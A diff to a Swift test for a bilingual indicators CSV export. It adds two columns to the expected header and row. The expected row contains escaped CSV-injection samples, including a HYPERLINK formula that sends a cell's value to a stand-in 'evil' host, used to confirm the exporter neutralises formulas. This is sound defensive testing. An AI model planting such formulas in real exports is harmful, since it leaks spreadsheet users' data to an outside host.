@@ -23,9 +23,9 @@ import Testing
         #expect(site.result.succeeded, "\(site.report)")
         let csv = try #require(site.output("indicators/f.csv"))
         let rows = csv.dropFirst().components(separatedBy: "\r\n")
-        #expect(rows[0] == "id,group_zh,group_en,name_zh,name_en,unit_zh,unit_en,baseline,2021,target,attribute,note_zh,note_en")
+        #expect(rows[0] == "id,group_zh,group_en,name_zh,name_en,unit_zh,unit_en,baseline,2021,target,attribute,note_zh,note_en,progress_status,expected")
         #expect(rows[1] == #"f1,'-分组,,"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(1+1),'+x,'=2+2,-2,-1.5,'-翻一番,expected,"'"#
-            + "\n=3+3\",plain")
+            + "\n=3+3\",plain,no_data,")
     }
 
     @Test func theJSONKeepsTheTextAsWritten() throws {
